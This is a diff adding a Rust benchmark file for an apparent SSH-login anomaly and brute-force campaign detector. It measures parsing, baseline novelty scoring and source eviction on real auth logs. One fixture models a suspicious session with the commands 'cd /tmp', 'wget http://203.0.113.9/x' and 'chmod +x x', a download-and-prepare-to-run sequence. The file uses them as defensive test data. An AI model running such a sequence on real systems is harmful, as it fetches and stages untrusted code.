@@ -1,0 +1,153 @@
+//! What the baselines and campaign detectors cost on top of parsing.
+//!
+//! - `detect/auth_logs_parse_only` and `detect/auth_logs_parse_and_detect`:
+//!   the input of the `parse` bench (real sshd logs, 34,420 lines × 4), once
+//!   through the analyzer alone and once with auth attempts recorded, fed to
+//!   the campaign detectors and every observation judged against the
+//!   baselines (and learnt when Normal), as the agent does; the model is left
+//!   out (its cost is the `score` bench).
+//! - `detect/novelty_and_learn`: one session judged and learnt against a
+//!   user with three weeks of history.
+//! - `detect/campaign_flood`: failed logins from ever-new addresses with the
+//!   source table full (1,024), i.e. the eviction path.
+
+use std::hint::black_box;
+use std::net::{IpAddr, Ipv4Addr};
+use std::path::{Path, PathBuf};
+
+use bfp_common::analyze::{Analyzer, AnalyzerConfig, LogFormat};
+use bfp_common::baseline::{BaselineConfig, Baselines, SessionFacts};
+use bfp_common::campaign::{AuthAttempt, CampaignConfig, CampaignDetector};
+use bfp_common::detect::{DetectConfig, Detector};
+use bfp_common::fingerprint::FEATURE_COUNT;
+use bfp_common::{Fingerprint, Protocol, Verdict};
+use criterion::{criterion_group, criterion_main, Criterion, Throughput};
+
+fn data_dir() -> PathBuf {
+    if let Some(dir) = std::env::var_os("BFP_SHARED_DATA").filter(|d| !d.is_empty()) {
+        return PathBuf::from(dir);
+    }
+    let root = Path::new(env!("CARGO_MANIFEST_DIR")).parent().unwrap().to_path_buf();
+    root.ancestors()
+        .map(|a| a.join("shared/data"))
+        .find(|d| d.join("real").is_dir())
+        .expect("shared/data/real not found")
+}
+
+fn lines(files: &[&str], repeat: usize) -> Vec<String> {
+    let mut one = Vec::new();
+    for f in files {
+        let text = std::fs::read_to_string(data_dir().join("real").join(f)).unwrap();
+        one.extend(text.lines().map(str::to_owned));
+    }
+    (0..repeat).flat_map(|_| one.iter().cloned()).collect()
+}
+
+fn config() -> AnalyzerConfig {
+    AnalyzerConfig { reference_time: Some(1_795_564_800), ..AnalyzerConfig::default() }
+}
+
+fn parse_only(lines: &[String]) -> usize {
+    let mut a = Analyzer::new(config());
+    let mut n = 0;
+    for line in lines {
+        a.feed_line(line, LogFormat::Syslog);
+        n += a.drain_ready().len();
+    }
+    n + a.finish().len()
+}
+
+fn parse_and_detect(lines: &[String]) -> usize {
+    let normal = Verdict { suspicious: false, confidence: 0.9, contributions: [0.0; FEATURE_COUNT] };
+    let mut a = Analyzer::new(config());
+    a.record_auth_attempts();
+    let mut d = Detector::new(DetectConfig::default());
+    let mut n = 0;
+    let mut judge = |a: &mut Analyzer, d: &mut Detector, obs: Vec<bfp_common::analyze::Observation>| {
+        n += d.observe_attempts(&a.drain_auth_attempts()).len();
+        for o in &obs {
+            n += usize::from(d.judge(o, &normal).suspicious);
+        }
+    };
+    for line in lines {
+        a.feed_line(line, LogFormat::Syslog);
+        let obs = a.drain_ready();
+        judge(&mut a, &mut d, obs);
+    }
+    let obs = a.finish();
+    judge(&mut a, &mut d, obs);
+    n
+}
+
+fn bench(c: &mut Criterion) {
+    let auth = lines(&["loghub/OpenSSH_2k.log", "elastic/auth.log", "exposed-rhel/secure"], 4);
+    let mut g = c.benchmark_group("detect");
+    g.sample_size(20);
+    g.throughput(Throughput::Elements(auth.len() as u64));
+    g.bench_function("auth_logs_parse_only", |b| b.iter(|| black_box(parse_only(&auth))));
+    g.bench_function("auth_logs_parse_and_detect", |b| b.iter(|| black_box(parse_and_detect(&auth))));
+
+    // A user with three weeks of history, then one more session.
+    let mut baselines = Baselines::new(BaselineConfig::default());
+    let cmds: Vec<String> = ["/usr/bin/apt update", "systemctl status nginx", "ls -la /etc"].map(String::from).into();
+    let t0 = 1_762_041_600i64;
+    for day in 0..21 {
+        let fp = Fingerprint {
+            login_hour: 9 + (day % 8) as u8,
+            session_duration_min: 25.0,
+            commands: 3,
+            failed_logins: 0,
+            protocol: Protocol::Ssh,
+            typing_speed_wpm: None,
+            risky_commands: Some(0),
+        };
+        let ip = Some(IpAddr::V4(Ipv4Addr::new(198, 51, 100, day as u8)));
+        baselines.learn(&SessionFacts::new("alice", ip, t0 + day * 86_400, &fp, &cmds, false), false);
+    }
+    let fp = Fingerprint {
+        login_hour: 3,
+        session_duration_min: 4.0,
+        commands: 3,
+        failed_logins: 0,
+        protocol: Protocol::Ssh,
+        typing_speed_wpm: None,
+        risky_commands: Some(2),
+    };
+    let risky: Vec<String> = ["cd /tmp", "wget http://203.0.113.9/x", "chmod +x x"].map(String::from).into();
+    let ip = Some(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 50)));
+    g.throughput(Throughput::Elements(1));
+    g.bench_function("novelty_and_learn", |b| {
+        b.iter(|| {
+            let mut bl = baselines.clone();
+            let facts = SessionFacts::new("alice", ip, t0 + 22 * 86_400, &fp, &risky, false);
+            let n = bl.novelty(&facts);
+            black_box(bl.learn(&facts, n.escalates()))
+        })
+    });
+
+    let mut campaigns = CampaignDetector::new(CampaignConfig::default());
+    let mut k = 0u32;
+    let attempt = |k: u32| AuthAttempt {
+        at: t0 + i64::from(k / 64),
+        source: IpAddr::V4(Ipv4Addr::from(0x0A00_0000 + k)),
+        user: Some(u64::from(k % 7)),
+        success: false,
+        invalid_user: true,
+        count: 1,
+        protocol: Protocol::Ssh,
+    };
+    for _ in 0..2048 {
+        k += 1;
+        campaigns.observe(&attempt(k));
+    }
+    g.bench_function("campaign_flood", |b| {
+        b.iter(|| {
+            k += 1;
+            campaigns.observe(&attempt(k));
+        })
+    });
+    g.finish();
+}
+
+criterion_group!(benches, bench);
+criterion_main!(benches);
